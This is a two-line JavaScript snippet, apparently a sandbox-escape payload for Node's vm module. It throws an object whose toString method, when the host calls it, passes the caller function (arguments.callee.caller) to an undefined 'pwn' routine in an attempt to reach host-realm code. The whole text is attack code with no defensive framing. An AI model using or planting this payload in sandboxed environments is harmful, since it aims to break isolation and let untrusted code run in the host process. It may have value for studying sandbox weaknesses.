// Node vm: thrown object's toString called by the host
throw { toString() { try { pwn(arguments.callee.caller) } catch (e) {} return 'x' } };
